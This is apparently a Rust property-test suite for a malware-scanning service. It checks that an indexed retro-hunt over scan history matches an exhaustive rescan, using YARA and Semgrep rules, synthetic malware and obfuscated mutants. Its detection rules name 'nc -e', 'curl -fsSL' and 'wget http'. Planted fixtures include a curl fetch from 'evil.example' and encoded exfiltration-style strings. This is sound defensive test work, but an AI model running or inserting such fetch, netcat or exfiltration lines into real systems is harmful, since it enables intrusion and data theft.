//! Differential property suite for retro-hunting: the inverted
//! atom→digest index may change *how much* work a rule deployment does,
//! never *what it finds*. [`ScanHub::retro_hunt`] must produce per-rule
//! hit sets and per-digest verdicts byte-identical to
//! [`ScanHub::retro_rescan`] (the exhaustive every-digest oracle) on
//! randomized corpora and obfuscation mutants — including layer-only
//! atoms, rules with no usable atoms (conservative full candidacy), and
//! dead rules — and each confirmed verdict must equal a fresh full scan
//! of that file restricted to the changed rules.

use std::collections::{BTreeMap, HashMap, HashSet};

use corpus::FAMILIES;
use obfuscate::{EvasionProfile, Obfuscator};
use proptest::prelude::*;
use scanhub::{
    ArtifactConfig, FileAnalysis, FileEntry, HubConfig, RuleEngine, ScanHub, ScanRequest,
};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::{CompiledRules, FileHits, Part, Scanner};

/// The bundle the hub is *live* with while history accumulates.
const LIVE_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "wget http" condition: $a }
"#;

const LIVE_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
";

/// The candidate bundle a retro-hunt screens history with. Relative to
/// the live bundle: `shell`/`beacon`/`sys-exec` are unchanged,
/// `retuned` keeps its name but swaps its atom, and the additions cover
/// every candidacy path — plain atom, layer-only atom, regex-only
/// (non-exhaustive → full candidacy), `nocase`, a sub-gram atom
/// (`"MZ"` < 3 bytes → full candidacy), a dead
/// rule (zero candidates), a Semgrep atom rule and a Semgrep always-on
/// rule.
const NEXT_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule retuned { strings: $a = "curl -fsSL" condition: $a }
rule dropper { strings: $a = "nc -e" condition: $a }
rule layered_ioc { strings: $a = "secret_exfil_token" condition: $a }
rule regex_only { strings: $re = /tok[0-9]{6}/ condition: $re }
rule caseless { strings: $a = "SubProcess.Popen" nocase condition: $a }
rule magic { strings: $a = "MZ" condition: $a }
rule dead { condition: false }
"#;

const NEXT_SEMGREP: &str = "rules:
  - id: sys-exec
    languages: [python]
    message: shell execution
    pattern: os.system($CMD)
  - id: eval-exec
    languages: [python]
    message: dynamic code
    pattern: eval($X)
  - id: any-call
    languages: [python]
    message: opaque (always-on)
    pattern: $F(secret_marker_zz)
";

fn live_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(LIVE_YARA).expect("live yara"),
        semgrep_engine::compile(LIVE_SEMGREP).expect("live semgrep"),
    )
}

fn next_bundle() -> (CompiledRules, CompiledSemgrepRules) {
    (
        yara_engine::compile(NEXT_YARA).expect("next yara"),
        semgrep_engine::compile(NEXT_SEMGREP).expect("next semgrep"),
    )
}

fn live_hub(artifact_capacity: usize) -> ScanHub {
    let (yara, semgrep) = live_bundle();
    ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 2,
            cache_capacity: 0,
            artifact_cache_capacity: artifact_capacity,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    )
}

/// Uploads planted so every changed rule has at least one true hit in
/// history — including one whose IOC exists *only* inside a
/// base64-decoded layer.
fn planted_uploads() -> Vec<ScanRequest> {
    let blob = digest::base64::encode(b"secret_exfil_token: beacon home now");
    vec![
        ScanRequest::from_source(
            "planted_fetch.py",
            "import subprocess\nsubprocess.run('curl -fsSL http://evil.example/x')\n",
        ),
        ScanRequest::from_source("planted_layer.py", format!("blob = '{blob}'\n")),
        ScanRequest::from_source(
            "planted_nocase.py",
            "h = SUBPROCESS.POPEN\nshell = 'nc -e'\n",
        ),
        ScanRequest::from_source("planted_eval.py", "eval(input())\ntoken = 'tok123456'\n"),
        ScanRequest::from_source("planted_marker.py", "f(secret_marker_zz)\n"),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    #[test]
    fn index_assisted_hunt_equals_exhaustive_rescan(
        family_idx in 0usize..30,
        variant in 0u64..10,
        seed in any::<u64>(),
        profile_idx in 0usize..3,
        legit_idx in 0usize..40,
    ) {
        let hub = live_hub(4096);
        let family = &FAMILIES[family_idx];
        let malware = corpus::generate_malware_package(family, variant, seed).0;
        let profile = EvasionProfile::standard().swap_remove(profile_idx);
        let mutant = Obfuscator::new(profile, seed).obfuscate_package(&malware);
        let legit = corpus::generate_legit_package(legit_idx, seed);
        for pkg in [&malware, &mutant, &legit] {
            hub.submit(ScanRequest::from_package(pkg)).wait();
        }
        for req in planted_uploads() {
            hub.submit(req).wait();
        }

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        prop_assert!(
            deployment.delta.changed.iter().all(|c| {
                c.name != "shell" && c.name != "beacon" && c.name != "sys-exec"
            }),
            "unchanged rules must not be re-hunted: {:?}",
            deployment.delta.changed
        );
        prop_assert!(deployment.delta.new_atoms.contains(&"curl -fssl".to_owned()));

        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(
            report.same_hits(&oracle),
            "index-assisted hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
            report.rules,
            oracle.rules
        );
        prop_assert_eq!(report.digests_indexed, oracle.digests_indexed);

        let rule = |name: &str| {
            report
                .rules
                .iter()
                .find(|r| r.rule == name)
                .unwrap_or_else(|| panic!("{name} missing from report"))
        };
        // Every planted IOC is found — the layer-only one through the
        // decoded-layer posting lists.
        prop_assert!(!rule("retuned").digests.is_empty());
        prop_assert!(!rule("dropper").digests.is_empty());
        prop_assert!(!rule("layered_ioc").digests.is_empty(), "layer-only atom lost");
        prop_assert!(!rule("caseless").digests.is_empty());
        prop_assert!(!rule("eval-exec").digests.is_empty());
        // A dead rule is exhaustive with no atoms: zero candidates,
        // zero hits, no fallback.
        prop_assert_eq!(rule("dead").candidates, 0);
        prop_assert!(rule("dead").digests.is_empty());
        // Regex-only atoms and sub-gram atoms like `"MZ"` cannot be
        // indexed: candidacy falls back to the whole history, never to
        // silence.
        prop_assert_eq!(rule("regex_only").candidates, report.digests_indexed);
        prop_assert_eq!(rule("magic").candidates, report.digests_indexed);
        prop_assert_eq!(report.full_candidacy_rules, 2, "regex_only and magic fall back");
        // Exhaustive-atom rules actually prune.
        prop_assert!(rule("layered_ioc").candidates < report.digests_indexed);
    }

    #[test]
    fn eviction_keeps_hunt_and_rescan_in_agreement(
        family_idx in 0usize..30,
        seed in any::<u64>(),
        capacity in 3usize..9,
    ) {
        // A small artifact cache forces evictions mid-history; the
        // hunt's sync must shed exactly the evicted digests and the
        // differential must still hold over the resident survivors.
        let hub = live_hub(capacity);
        let family = &FAMILIES[family_idx];
        let pkg = corpus::generate_malware_package(family, 0, seed).0;
        hub.submit(ScanRequest::from_package(&pkg)).wait();
        for req in planted_uploads() {
            hub.submit(req).wait();
        }

        let (yara, semgrep) = next_bundle();
        let deployment = hub.deploy_rules(Some(yara), Some(semgrep));
        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let digests = hub.stats().retro_index_digests;
        prop_assert!(digests as usize <= capacity, "index outgrew the cache");
        let oracle = hub.retro_rescan(&deployment).expect("oracle");
        prop_assert!(report.same_hits(&oracle), "diverged after evictions");
        prop_assert_eq!(report.digests_indexed, digests);
        prop_assert_eq!(oracle.digests_indexed, digests);
    }
}

#[test]
fn short_atom_rules_fall_back_to_full_candidacy() {
    // Atoms shorter than the 3-gram width have no posting to gate on:
    // a rule like `"MZ"` is a full-candidacy rule, pinned against the
    // exhaustive rescan oracle.
    let hub = live_hub(4096);
    hub.submit(ScanRequest::from_source(
        "dropper.py",
        "stub = 'MZ\\x90' # pe carving\n",
    ))
    .wait();
    hub.submit(ScanRequest::from_source("tilde.py", "home = '~root'\n"))
        .wait();
    for req in planted_uploads() {
        hub.submit(req).wait();
    }

    let short_yara = r#"
rule magic2 { strings: $a = "MZ" condition: $a }
rule magic1 { strings: $a = "~" condition: $a }
"#;
    let yara = yara_engine::compile(short_yara).expect("short-atom yara");
    let deployment = hub.deploy_rules(Some(yara), None);
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let oracle = hub.retro_rescan(&deployment).expect("oracle");
    assert!(
        report.same_hits(&oracle),
        "short-atom hunt diverged from the exhaustive rescan:\n{:?}\nvs\n{:?}",
        report.rules,
        oracle.rules
    );
    // Both rules fell back to full candidacy: every indexed digest is a
    // candidate, and each still finds its planted hit.
    assert_eq!(report.full_candidacy_rules, 2);
    let rule = |name: &str| {
        report
            .rules
            .iter()
            .find(|r| r.rule == name)
            .unwrap_or_else(|| panic!("{name} missing from report"))
    };
    for name in ["magic2", "magic1"] {
        assert_eq!(rule(name).candidates, report.digests_indexed, "{name}");
        assert!(
            !rule(name).digests.is_empty(),
            "{name} lost its planted hit"
        );
    }
}

#[test]
fn confirmed_verdicts_match_a_fresh_full_scan_of_each_file() {
    // Second differential axis: for every resident file, the retro
    // verdict (strictly gated, artifact-cached, digest-named) must
    // equal a cold full scan of that single file by a hub running the
    // *new* bundle, restricted to the changed rules.
    let hub = live_hub(4096);
    let pkg = corpus::generate_malware_package(&FAMILIES[0], 0, 42).0;
    let pkg_req = ScanRequest::from_package(&pkg);
    hub.submit(pkg_req.clone()).wait();
    let uploads = planted_uploads();
    for req in &uploads {
        hub.submit(req.clone()).wait();
    }
    let mut by_digest: HashMap<String, FileEntry> = HashMap::new();
    for req in uploads.iter().chain([&pkg_req]) {
        for f in req.files() {
            by_digest.insert(digest::to_hex(&f.digest()), f.clone());
        }
    }

    let (yara, semgrep) = next_bundle();
    let deployment = hub.deploy_rules(Some(yara.clone()), Some(semgrep.clone()));
    let changed: HashSet<(RuleEngine, String)> = deployment
        .delta
        .changed
        .iter()
        .map(|c| (c.engine, c.name.clone()))
        .collect();
    let report = hub.retro_hunt(&deployment).expect("retro index enabled");
    let verdicts: HashMap<&str, _> = report
        .verdicts
        .iter()
        .map(|(digest, v)| (digest.as_str(), v))
        .collect();

    let fresh = ScanHub::new(
        Some(yara),
        Some(semgrep),
        HubConfig {
            workers: 1,
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    );
    for (hex, file) in &by_digest {
        let full = fresh
            .submit(ScanRequest::from_files(vec![file.clone()]))
            .wait();
        let mut want_yara: Vec<&str> = full
            .yara
            .iter()
            .map(|r| &**r)
            .filter(|r| changed.contains(&(RuleEngine::Yara, (*r).to_owned())))
            .collect();
        want_yara.sort_unstable();
        let mut want_semgrep: Vec<&str> = full
            .semgrep
            .iter()
            .map(|r| &**r)
            .filter(|r| changed.contains(&(RuleEngine::Semgrep, (*r).to_owned())))
            .collect();
        want_semgrep.sort_unstable();
        // Layer findings compare modulo the `file` field: the retro
        // path names the digest, the live path names the upload entry.
        let layer_key = |l: &scanhub::LayerFinding| {
            (l.rule.clone(), format!("{:?}", l.encoding), l.depth, l.line)
        };
        let mut want_layers: Vec<_> = full
            .layers
            .iter()
            .filter(|l| changed.contains(&(RuleEngine::Yara, l.rule.to_string())))
            .map(layer_key)
            .collect();
        want_layers.sort();
        match verdicts.get(hex.as_str()) {
            Some(v) => {
                let (got_yara, got_semgrep) = (v.yara.names(), v.semgrep.names());
                let mut got_layers: Vec<_> = v.layers.iter().map(layer_key).collect();
                got_layers.sort();
                assert_eq!(got_yara, want_yara, "yara diverged on {}", file.name());
                assert_eq!(
                    got_semgrep,
                    want_semgrep,
                    "semgrep diverged on {}",
                    file.name()
                );
                assert_eq!(
                    got_layers,
                    want_layers,
                    "layers diverged on {}",
                    file.name()
                );
            }
            None => {
                assert!(
                    want_yara.is_empty() && want_semgrep.is_empty() && want_layers.is_empty(),
                    "retro-hunt missed hits on {}: yara {:?} semgrep {:?}",
                    file.name(),
                    want_yara,
                    want_semgrep
                );
            }
        }
    }
}

/// A live bundle with a regex string, for the reuse cases below.
const REUSE_LIVE_YARA: &str = r#"
rule shell { strings: $a = "os.system" condition: $a }
rule beacon { strings: $a = "requests.get" $b = "requests.post" condition: any of them }
rule blob { strings: $r = /([A-Za-z0-9+\/]{4}){6,}={0,2}/ condition: $r }
rule fetch { strings: $a = "wget http" condition: $a }
"#;

/// Changed rules whose strings a confirm scan may read from the
/// artifacts' cached live hits: a live string beside a new one, live
/// texts under other modifiers (which must not reuse them), the live
/// regex, and a stringless rule.
const REUSE_CHANGED_YARA: &str = r#"
rule mixed { strings: $live = "os.system" $new = "getpass.getuser" condition: $live and $new }
rule modifiers { strings: $a = "os.system" nocase $b = "requests.get" fullword $c = "wget http" wide condition: any of them }
rule same_regex { strings: $r = /([A-Za-z0-9+\/]{4}){6,}={0,2}/ condition: #r >= 2 }
rule stringless { condition: filesize < 100000 }
"#;

/// Uploads that separate each reused definition from its look-alikes,
/// and a decoded layer whose only hits are live strings no changed rule
/// has.
fn reuse_uploads() -> Vec<ScanRequest> {
    let wide: String = "wget http".chars().flat_map(|c| [c, '\0']).collect();
    let layer = digest::base64::encode(b"requests.post(url, data=stolen)");
    let both = digest::base64::encode(b"import os, getpass;os.system(getpass.getuser())");
    let sources = [
        (
            "mixed.py",
            "import os, getpass\nos.system(getpass.getuser())\n".to_owned(),
        ),
        (
            "caseless.py",
            "import os\nOS.SYSTEM('id')\nrequests.getter()\n".to_owned(),
        ),
        ("fullword.py", "r = requests.get(u)\n".to_owned()),
        ("wide.py", format!("w = '{wide}'\n")),
        ("layer.py", format!("blob = '{layer}'\n")),
        ("mixed_layer.py", format!("blob = '{both}'\n")),
    ];
    let uploads = sources.into_iter();
    uploads
        .map(|(name, code)| ScanRequest::from_source(name, code))
        .collect()
}

/// The reuse hub's history: corpus packages, their mutants, the planted
/// uploads of both suites.
fn reuse_history() -> Vec<ScanRequest> {
    let mut history = reuse_uploads();
    history.extend(planted_uploads());
    for (i, family) in FAMILIES.iter().take(4).enumerate() {
        let malware = corpus::generate_malware_package(family, 0, i as u64).0;
        let profile = EvasionProfile::standard().swap_remove(i % 3);
        let mutant = Obfuscator::new(profile, i as u64).obfuscate_package(&malware);
        let legit = corpus::generate_legit_package(i, i as u64);
        for pkg in [&malware, &mutant, &legit] {
            history.push(ScanRequest::from_package(pkg));
        }
    }
    history
}

/// Each string slot's offsets on `data`, as the reusing scanner reads
/// them — translated from `live` plus its own residual scan — or, with
/// `live` `None`, as a scanner of every string collects them.
fn slot_offsets(
    scanner: &Scanner<'_>,
    live: Option<&FileHits>,
    data: &[u8],
) -> BTreeMap<usize, Vec<u32>> {
    let own = scanner.collect_hits(data);
    let mut slots = BTreeMap::new();
    let mut record = |slot: usize, offsets: &[u32]| {
        let twice = slots.insert(slot, offsets.to_vec());
        assert!(twice.is_none(), "slot {slot} both translated and collected");
    };
    if let Some(hits) = live {
        scanner.for_each_hit(Part::Live(0, hits), &mut record);
    }
    scanner.for_each_hit(Part::Own(0, &own), &mut record);
    slots
}

#[test]
fn reused_live_hits_equal_what_the_changed_rules_collect() {
    let live = yara_engine::compile(REUSE_LIVE_YARA).expect("live yara");
    let changed = yara_engine::compile(REUSE_CHANGED_YARA).expect("changed yara");
    let (live_scanner, full) = (Scanner::new(&live), Scanner::new(&changed));
    let reusing = Scanner::reusing(&changed, Some(&live));
    // Only `mixed.$live` and `same_regex.$r` are defined identically.
    let reads: Vec<bool> = (0..4).map(|ri| reusing.reads_bytes(ri)).collect();
    assert_eq!(reads, [true, true, false, false]);

    let config = ArtifactConfig {
        max_decode_depth: 2,
        ..ArtifactConfig::default()
    };
    let (mut units, mut translated) = (0, 0);
    for request in reuse_history() {
        for entry in request.files() {
            let artifact = FileAnalysis::build(entry, Some(&live_scanner), &config);
            let surface = (&artifact.bytes[..], artifact.yara_hits.as_ref());
            let layers = artifact.layers.iter().map(|l| &l.data[..]);
            let layers = layers.zip(artifact.layer_hits.iter().map(Some));
            for (data, cached) in std::iter::once(surface).chain(layers) {
                let got = slot_offsets(&reusing, cached, data);
                assert_eq!(got, slot_offsets(&full, None, data), "{}", entry.name());
                units += 1;
                translated += got.keys().filter(|&&slot| slot == 0 || slot == 5).count();
            }
        }
    }
    assert!(
        units > 50 && translated > 10,
        "{units} units, {translated} translated"
    );
}

#[test]
fn a_hunt_reading_cached_hits_equals_the_byte_reading_rescan() {
    let live = yara_engine::compile(REUSE_LIVE_YARA).expect("live yara");
    let hub = ScanHub::new(
        Some(live),
        None,
        HubConfig {
            workers: 2,
            cache_capacity: 0,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    );
    for request in reuse_history() {
        hub.submit(request).wait();
    }
    let hunt = |changed: &str| {
        let next = yara_engine::compile(&format!("{REUSE_LIVE_YARA}{changed}"));
        let deployment = hub.deploy_rules(Some(next.expect("next yara")), None);
        let before = hub.stats().retro_confirm_bytes_scanned;
        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
        let scanned = hub.stats().retro_confirm_bytes_scanned - before;
        assert_eq!(scanned, report.bytes_scanned);
        let rescan = hub.retro_rescan(&deployment).expect("oracle");
        assert!(
            report.same_hits(&rescan),
            "the hunt diverged from the rescan:\n{:?}\nvs\n{:?}",
            report.verdicts,
            rescan.verdicts
        );
        (deployment, report, rescan)
    };

    let (deployment, report, _) = hunt(REUSE_CHANGED_YARA);
    let names: Vec<&str> = deployment
        .delta
        .changed
        .iter()
        .map(|c| c.name.as_str())
        .collect();
    assert_eq!(names, ["mixed", "modifiers", "same_regex", "stringless"]);
    for rule in &report.rules {
        assert!(!rule.digests.is_empty(), "{} confirmed nothing", rule.rule);
    }
    // The stringless rule fires on surfaces only: the planted layer holds
    // hits of live strings, none of them a changed rule's.
    let layered = report.verdicts.iter().flat_map(|(_, v)| &v.layers);
    assert!(layered.clone().all(|l| &*l.rule != "stringless"));
    assert!(
        layered.clone().any(|l| &*l.rule == "mixed"),
        "no layer reused a hit"
    );
    assert!(
        report.bytes_scanned > 0,
        "the residual strings were never scanned"
    );

    let all_live = r#"
rule all_live { strings: $a = "os.system" $r = /([A-Za-z0-9+\/]{4}){6,}={0,2}/ condition: any of them }
"#;
    let (_, report, rescan) = hunt(all_live);
    assert_eq!(report.confirm_scans, report.digests_indexed);
    assert!(
        !report.rules[0].digests.is_empty(),
        "all_live confirmed nothing"
    );
    assert_eq!(
        report.bytes_scanned, 0,
        "a hunt over live strings read bytes"
    );
    assert!(rescan.bytes_scanned > 0);
}
